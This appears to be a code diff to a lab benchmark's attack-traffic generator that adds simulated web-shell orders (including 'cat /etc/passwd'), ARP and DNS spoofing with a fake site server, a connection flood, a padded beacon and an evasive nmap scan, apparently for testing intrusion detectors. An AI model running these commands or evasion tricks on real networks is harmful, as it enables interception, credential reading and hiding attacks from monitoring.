@@ -2,14 +2,26 @@
 
 from __future__ import annotations
 
+import base64
 import random
+import string
 from collections.abc import Callable, Iterator
+from urllib.parse import quote
 
 from benchmarks.lab.habits import Occasion, Request
 from benchmarks.lab.scenario import Attack
 from benchmarks.lab.services import PROGRAMS, tunnel_domain
 from benchmarks.lab.world import PAGES, Step, words
 
+ORDERS = (
+    "id",
+    "uname -a",
+    "ls -la /etc",
+    "cat /etc/passwd",
+    "ip addr",
+    "df -h",
+    "ls -laR /usr/share/doc/ncat",
+)
 Plan = Callable[[Occasion, Attack, float], Iterator[Step]]  # the last one: seconds that it may last
 
 
@@ -346,7 +358,7 @@ def lateral_smb(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
 
 
 def web_shell(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
-    """A script left on a web server, and orders sent to it."""
+    """A script left on a web server, and orders sent to it, which the server's machine carries out."""
     hosts = [h for h in o.world.offering("api") if h.name != o.actor.host]
     if not hosts:
         return
@@ -354,19 +366,15 @@ def web_shell(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
     first = (host.sites or ("www",))[0]
     site = f"{first}.{o.world.scenario.domain}" if host.inside else first
     by_program = o.by_program()
-    script = {
-        "url": f"https://{site}/files/help{o.rng.randrange(99)}.php",
-        "method": "PUT",
-        "file": o.world.file(4),
-    }
+    name = f"help{o.rng.randrange(99)}.php"
+    script = {"url": f"https://{site}/files/{name}", "method": "PUT", "file": o.world.file(4)}
     yield o.web("web-shell", script, by_program=by_program)
     after = 3.0
     while after < lasts:
-        order = "".join(
-            o.rng.choices("ABCDEFGHIJKLMNOPabcdefghijklmnop0123456789+/", k=o.rng.choice((24, 60, 200, 1500)))
-        )
-        url = f"{o.rng.choice(('https', 'http'))}://{site}/api/help.php"
-        request = {"url": url, "method": "POST", "body": f"z0={order}"}
+        order = base64.b64encode(o.rng.choice(ORDERS).encode()).decode()
+        filler = "".join(o.rng.choices(string.ascii_letters, k=o.rng.choice((0, 0, 60, 1500))))
+        url = f"{o.rng.choice(('https', 'http'))}://{site}/api/files/{name}"
+        request = {"url": url, "method": "POST", "body": f"z0={quote(order, safe='')}&z1={filler}"}
         yield o.web("web-shell", request, after=after, by_program=by_program)
         after += o.rng.lognormvariate(1.2, 0.7) / attack.pace
 
@@ -406,6 +414,88 @@ def junk_bytes(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
         after += o.rng.uniform(0.5, 4.0) / attack.pace
 
 
+def arp_spoofing(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
+    """A neighbour's way to a server leads through this host, both ways; it forwards what comes."""
+    people = [h for h in o.world.hosts if h.inside and h.role and h.name != o.actor.host]
+    servers = [h for h in o.world.hosts if h.inside and h.services and h.name != o.actor.host]
+    victim = o.rng.choice(people)
+    other = o.rng.choice([h for h in servers if h.name != victim.name])
+    argv = ("arpspoof", "-i", "eth0", "-t", victim.address, "-r", other.address)
+    yield _as_root(o.step("arp-spoofing", *argv, limit=lasts))
+
+
+def dns_spoofing(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
+    """A neighbour's questions pass by here, and some are answered with this host's address, where a page waits."""
+    resolver = o.world.offering("resolver")[0]
+    people = [h for h in o.world.hosts if h.inside and h.role and h.name not in (o.actor.host, resolver.name)]
+    victims = o.rng.sample(people, k=min(2, len(people)))
+    here = o.world.host(o.actor.host)
+    names = o.world.run.state / "files" / f"names-{o.actor.gid}"
+    if names.parent.is_dir():
+        sites = o.world.sites(inside=False)
+        names.write_text("".join(f"{here.address}\t{site}\n" for site in sites[:2]), encoding="utf-8")
+    for victim in victims:
+        argv = ("arpspoof", "-i", "eth0", "-t", victim.address, resolver.address)
+        yield _as_root(o.step("dns-spoofing", *argv, limit=lasts))
+    filter_ = f"udp dst port 53 and not src host {here.address}"
+    yield _as_root(o.step("dns-spoofing", "dnsspoof", "-i", "eth0", "-f", str(names), filter_, limit=lasts))
+    if "web" not in here.services:
+        site = (o.world.bad_sites() or o.world.sites(inside=False))[-1]
+        tls, page = o.world.run.state / "tls", o.world.run.state / "www" / site
+        secure = (
+            "-accept",
+            "443",
+            "-cert",
+            f"{tls}/{site}.pem",
+            "-key",
+            f"{tls}/{site}.key",
+            "-quiet",
+            "-WWW",
+        )
+        yield _as_root(o.step("dns-spoofing", "openssl", "s_server", *secure, limit=lasts))
+        plain = ("/usr/bin/python3", "-m", "http.server", "80", "--directory", str(page))
+        yield _as_root(o.step("dns-spoofing", *plain, limit=lasts))
+
+
+def connect_flood(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
+    """Whole connections, opened and dropped as fast as they come, 30 a second at pace 1."""
+    if found := o.server("web"):
+        port = o.rng.choice((80, 443))
+        for number in range(min(4000, int(lasts * 30 * attack.pace))):
+            at = number / 30 / attack.pace + o.rng.uniform(0, 0.03)
+            yield o.client("connect-flood", "knock", after=at, host=found[0].address, port=port, wait=2.0)
+
+
+def padded_beacon(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
+    """A beacon that hides its regularity: sizes padded at random, pages varied, long sleeps between short bursts."""
+    site = o.rng.choice(o.world.bad_sites() or o.world.sites(inside=False))
+    by_program, scheme = o.by_program(), o.rng.choice(("https", "https", "http"))
+    after = 0.0
+    while after < lasts:
+        for _ in range(o.rng.randrange(1, 5)):
+            part = o.rng.choice((f"p{o.rng.randrange(PAGES)}.html", f"a{o.rng.randrange(4)}"))
+            junk = "".join(o.rng.choices("abcdef0123456789", k=int(o.rng.lognormvariate(5.5, 1.2))))
+            request: Request = {"url": f"{scheme}://{site}/{part}?{junk[:20]}"}
+            if o.rng.random() < 0.4:
+                request |= {"method": "POST", "body": f"q={junk}"}
+            else:
+                request["headers"] = {"X-Request-Id": junk[:900]}
+            yield o.web("padded-beacon", request, after=after, by_program=by_program)
+            after += o.rng.lognormvariate(0.0, 0.8)
+        after += o.rng.expovariate(attack.pace / 20)
+
+
+def padded_scan(o: Occasion, attack: Attack, lasts: float) -> Iterator[Step]:
+    """Slow, in random order, with bytes in packets that need none, from the port of an allowed service."""
+    servers = [h.address for h in o.world.hosts if h.inside and h.services and h.name != o.actor.host]
+    fixed = words("nmap -sS -n -Pn --send-ip --ttl 64 --max-retries 1 --data-length")
+    size, pause = str(o.rng.randrange(8, 200)), f"{int(150 / attack.pace)}ms"
+    target = o.rng.choice(servers)
+    count = str(max(10, min(300, int(lasts * attack.pace / 0.2))))
+    argv = (*fixed, size, "--scan-delay", pause, "--max-scan-delay", pause, "--top-ports", count, target)
+    yield _as_root(o.step("padded-scan", *argv, limit=lasts))
+
+
 ATTACKS: dict[str, Plan] = {
     "port-scan": port_scan, "host-scan": host_scan, "slow-scan": slow_scan, "ssh-guessing": ssh_guessing,
     "web-guessing": web_guessing, "mail-guessing": mail_guessing, "dns-tunnel": dns_tunnel,
@@ -413,7 +503,9 @@ ATTACKS: dict[str, Plan] = {
     "slow-upload": slow_upload, "upload-ssh": upload_ssh, "syn-scan": syn_scan, "udp-scan": udp_scan,
     "syn-flood": syn_flood, "udp-flood": udp_flood, "amplification": amplification, "slow-http": slow_http,
     "lateral-ssh": lateral_ssh, "lateral-smb": lateral_smb, "web-shell": web_shell,
-    "modbus-writes": modbus_writes, "junk-bytes": junk_bytes,
+    "modbus-writes": modbus_writes, "junk-bytes": junk_bytes, "arp-spoofing": arp_spoofing,
+    "dns-spoofing": dns_spoofing, "connect-flood": connect_flood, "padded-beacon": padded_beacon,
+    "padded-scan": padded_scan,
 }  # fmt: skip
 FAMILIES = {
     "port-scan": "scan-port-tcp", "host-scan": "scan-host", "slow-scan": "scan-slow", "syn-scan": "scan-port-tcp",
@@ -423,12 +515,15 @@ FAMILIES = {
     "upload-ssh": "exfiltration-ssh", "slow-upload": "exfiltration-slow", "slow-http": "ddos-slow-http",
     "syn-flood": "ddos-synflood", "udp-flood": "ddos-udpflood", "amplification": "ddos-dns-amplification",
     "lateral-ssh": "lateral-ssh", "lateral-smb": "lateral-smb", "web-shell": "webshell-plain",
-    "modbus-writes": "modbus-fake-command", "junk-bytes": "malformed",
+    "modbus-writes": "modbus-fake-command", "junk-bytes": "malformed", "arp-spoofing": "spoof-arp",
+    "dns-spoofing": "spoof-dns", "connect-flood": "ddos-connect", "padded-beacon": "beacon-padded",
+    "padded-scan": "scan-padded",
 }  # fmt: skip
 TOOLS = {
     "port-scan": ("nmap",), "host-scan": ("nmap",), "ssh-guessing": ("hydra", "sshpass"), "dns-tunnel": ("iodine",),
     "syn-scan": ("nmap",), "udp-scan": ("nmap",), "syn-flood": ("hping3",), "udp-flood": ("hping3",),
     "amplification": ("hping3",), "slow-http": ("slowhttptest",), "lateral-smb": ("smbclient",),
+    "arp-spoofing": ("arpspoof",), "dns-spoofing": ("arpspoof", "dnsspoof"), "padded-scan": ("nmap",),
 }  # fmt: skip
 
 
